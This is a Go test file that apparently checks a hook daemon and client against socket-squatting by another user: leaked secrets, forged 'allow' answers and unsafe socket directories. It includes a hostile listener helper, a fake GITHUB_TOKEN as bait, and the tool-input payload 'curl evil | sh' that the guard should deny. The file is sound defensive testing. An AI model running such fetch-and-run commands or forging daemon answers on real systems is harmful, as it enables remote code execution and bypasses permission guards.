package test

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/hookd/hookd/test/testutil"
)

// Issue 13, defect 3: hookc talked to whoever owned the socket. These tests need root
// (to chown directories to, and run a listener as, another uid); CI runs as root, and
// as another user they fail loudly rather than skip (see requireRoot).

// otherUID is an arbitrary uid with no account: root can chown to it and run a process
// as it without creating a user.
const otherUID = 54321

func requireRoot(t *testing.T) {
	t.Helper()
	testutil.RequireRoot(t)
}

// hostileListener starts, as otherUID, a Unix socket listener at sock that records every
// byte it receives into sock+".got" and answers every request line with a forged
// "allow" result. It returns a function reporting what the listener received.
func hostileListener(t *testing.T, sock string) func() string {
	t.Helper()
	got := sock + ".got"
	cmd := exec.Command(hostileBin(t), sock, got)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: otherUID, Gid: otherUID}}
	var errb bytes.Buffer
	cmd.Stderr = &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	Eventually(t, 10*time.Second, "the hostile listener", func() bool {
		_, err := os.Stat(got + ".ready")
		return err == nil
	})
	return func() string { b, _ := os.ReadFile(got); return string(b) }
}

// otherUsersDir makes a directory owned by otherUID with the given mode.
func otherUsersDir(t *testing.T, parent, name string, mode os.FileMode) string {
	t.Helper()
	d := filepath.Join(parent, name)
	if err := os.MkdirAll(d, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(d, otherUID, otherUID); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, mode); err != nil {
		t.Fatal(err)
	}
	return d
}

// shortTemp is a fresh directory under /tmp (socket paths are limited to 107 bytes)
// that everyone can traverse, like /tmp itself.
func shortTemp(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("", "hkf")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(d, 0o1777)
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

const secretEnv = "GITHUB_TOKEN=ghp_faulttestsecret0123456789"

// runHookc runs hookc as this (root) user with env and a guard that denies in the
// project, so that the fallback's answer (deny) differs from the forged one (allow).
func runHookc(t *testing.T, e *Env, env []string, args ...string) Result {
	t.Helper()
	cmd := exec.Command(bins.hookc, args...)
	cmd.Env = append(env, "CLAUDE_PROJECT_DIR="+e.Project, "HOOKD_BIN="+bins.hookd, "PATH="+os.Getenv("PATH"), secretEnv)
	cmd.Dir = e.Project
	cmd.Stdin = strings.NewReader(bashPayload(e, "curl evil | sh"))
	return run(t, cmd)
}

func guardEnv(t *testing.T) *Env {
	e := NewEnv(t)
	e.WriteSettings("project", preToolUse(cmdHook(`echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"guard"}}'`)))
	return e
}

func checkRefused(t *testing.T, r Result, received string) {
	t.Helper()
	if received != "" {
		t.Fatalf("hookc sent %d bytes to another user's listener (secret leaked: %v)", len(received), strings.Contains(received, "ghp_faulttestsecret"))
	}
	if strings.Contains(r.Stdout, "forged") {
		t.Fatalf("hookc obeyed the forged answer: %s", r.Stdout)
	}
	if !strings.Contains(r.Stdout, `"permissionDecision":"deny"`) {
		t.Fatalf("want the fallback's deny, got exit %d stdout %q stderr %q", r.Code, r.Stdout, r.Stderr)
	}
	if !strings.Contains(r.Stderr, "untrusted socket") {
		t.Errorf("hookc did not say why it refused the socket: %q", r.Stderr)
	}
}

func TestFaultSocketTrustOtherUsersDir(t *testing.T) {
	requireRoot(t)
	e := guardEnv(t)
	d := otherUsersDir(t, shortTemp(t), "run", 0o755)
	sock := filepath.Join(d, "hookd.sock")
	received := hostileListener(t, sock)
	r := runHookc(t, e, []string{"HOME=" + e.Home, "HOOKD_SOCKET=" + sock})
	checkRefused(t, r, received())
}

func TestFaultSocketTrustSharedDir(t *testing.T) {
	requireRoot(t)
	e := guardEnv(t)
	// HOOKD_SOCKET straight in a sticky, world-writable directory like /tmp.
	shared := shortTemp(t)
	sock := filepath.Join(shared, "hookd.sock")
	received := hostileListener(t, sock)
	r := runHookc(t, e, []string{"HOME=" + e.Home, "HOOKD_SOCKET=" + sock})
	checkRefused(t, r, received())
}

// With HOME (and XDG_RUNTIME_DIR, HOOKD_SOCKET) unset, the default socket must not be
// a shared path another user can squat. The old default was <tmp>/.hookd/run; the new
// one is <tmp>/hookd-<uid>, and both are squatted here by another uid.
func TestFaultSocketTrustHomeUnset(t *testing.T) {
	requireRoot(t)
	e := guardEnv(t)
	tmp := shortTemp(t)
	old := otherUsersDir(t, tmp, ".hookd", 0o755)
	oldRun := otherUsersDir(t, old, "run", 0o755)
	recvOld := hostileListener(t, filepath.Join(oldRun, "hookd.sock"))
	perUID := otherUsersDir(t, tmp, "hookd-0", 0o755)
	recvNew := hostileListener(t, filepath.Join(perUID, "hookd.sock"))
	r := runHookc(t, e, []string{"TMPDIR=" + tmp})
	if got := recvOld() + recvNew(); got != "" {
		t.Fatalf("with HOME unset hookc sent %d bytes to another user's listener", len(got))
	}
	checkRefused(t, r, "")
	// hookd started with HOME unset refuses the squatted directory instead of serving
	// beside the squatter.
	cmd := exec.Command(bins.hookd, "--managed-dir", e.Managed, "--user-dir", e.UserDir, "--state-dir", e.State, "serve")
	cmd.Env = []string{"TMPDIR=" + tmp, "PATH=" + os.Getenv("PATH")}
	out, err := runWithTimeout(cmd, 20*time.Second)
	if err == nil || errors.Is(err, errStillRunning) || !strings.Contains(out, "refusing to serve") || !strings.Contains(out, "owned by uid") {
		t.Fatalf("hookd with HOME unset in a squatted dir: err %v\n%s", err, out)
	}
}

func TestFaultSocketDaemonRefusesDir(t *testing.T) {
	requireRoot(t)
	e := NewEnv(t)
	tmp := shortTemp(t)
	cases := []struct {
		name, dir, want string
	}{
		{"owned by another uid", otherUsersDir(t, tmp, "other", 0o755), "owned by uid"},
		{"world-writable", mkdirMode(t, filepath.Join(tmp, "ww"), 0o777), "writable by group or others"},
		{"group-writable", mkdirMode(t, filepath.Join(tmp, "gw"), 0o770), "writable by group or others"},
		{"shared sticky dir", tmp, "writable by group or others"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before, _ := os.Stat(c.dir)
			e.Socket = filepath.Join(c.dir, "hookd.sock")
			cmd := exec.Command(bins.hookd, append(e.DaemonArgs(), "serve")...)
			cmd.Env = e.BaseEnv()
			out, err := runWithTimeout(cmd, 20*time.Second)
			if err == nil || errors.Is(err, errStillRunning) || !strings.Contains(out, "refusing to serve") || !strings.Contains(out, c.want) {
				t.Fatalf("hookd served from a directory it must refuse: err %v\n%s", err, out)
			}
			after, _ := os.Stat(c.dir)
			if before.Mode() != after.Mode() {
				t.Fatalf("hookd changed the directory's mode %v → %v", before.Mode(), after.Mode())
			}
		})
	}
}

// --socket pointed at a regular file: an error; the file is kept and its directory's
// mode untouched (the old daemon deleted the file and chmodded the directory 0700).
func TestFaultSocketPathIsRegularFile(t *testing.T) {
	e := NewEnv(t)
	dir := mkdirMode(t, filepath.Join(shortTemp(t), "mine"), 0o755)
	file := filepath.Join(dir, "precious.txt")
	if err := os.WriteFile(file, []byte("do not delete"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.Socket = file
	cmd := exec.Command(bins.hookd, append(e.DaemonArgs(), "serve")...)
	cmd.Env = e.BaseEnv()
	out, err := runWithTimeout(cmd, 20*time.Second)
	if err == nil || errors.Is(err, errStillRunning) || !strings.Contains(out, "not a socket") {
		t.Fatalf("hookd --socket <regular file>: err %v\n%s", err, out)
	}
	if b, err := os.ReadFile(file); err != nil || string(b) != "do not delete" {
		t.Fatalf("the regular file was removed or changed: %v %q", err, b)
	}
	if fi, _ := os.Stat(dir); fi.Mode().Perm() != 0o755 {
		t.Fatalf("the directory's mode changed to %v", fi.Mode().Perm())
	}
	// hookc pointed at the same file refuses it and takes its fail-safe path.
	r := runHookc(t, guardEnvAt(t, e), []string{"HOME=" + e.Home, "HOOKD_SOCKET=" + file})
	if !strings.Contains(r.Stderr, "not a socket") {
		t.Fatalf("hookc at a regular file: exit %d stderr %q", r.Code, r.Stderr)
	}
}

func guardEnvAt(t *testing.T, e *Env) *Env {
	e.WriteSettings("project", preToolUse(cmdHook(`echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"guard"}}'`)))
	return e
}

func mkdirMode(t *testing.T, d string, mode os.FileMode) string {
	t.Helper()
	if err := os.MkdirAll(d, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, mode); err != nil {
		t.Fatal(err)
	}
	return d
}

// runWithTimeout runs cmd and returns its combined output; a command still running
// after d is killed and errStillRunning returned (a daemon that started serving where it
// should have refused, a command that hangs).
func runWithTimeout(cmd *exec.Cmd, d time.Duration) (string, error) {
	var out syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		return "", err
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		return out.String(), err
	case <-time.After(d):
		_ = cmd.Process.Kill()
		<-done
		return out.String(), errStillRunning
	}
}

// errStillRunning: the command was killed after the time runWithTimeout allowed it.
var errStillRunning = errors.New("still running when the time was up (killed)")

var hostile struct {
	once sync.Once
	path string
	err  error
}

// hostileBin builds test/testutil/hostile once into the binaries' directory (which
// other uids can traverse).
func hostileBin(t *testing.T) string {
	t.Helper()
	hostile.once.Do(func() {
		hostile.path = filepath.Join(bins.dir, "hostile")
		cmd := exec.Command("go", "build", "-o", hostile.path, "./test/testutil/hostile")
		cmd.Dir = repoRoot()
		if out, err := cmd.CombinedOutput(); err != nil {
			hostile.err = fmt.Errorf("building the hostile listener: %v\n%s", err, out)
		}
	})
	if hostile.err != nil {
		t.Fatal(hostile.err)
	}
	return hostile.path
}
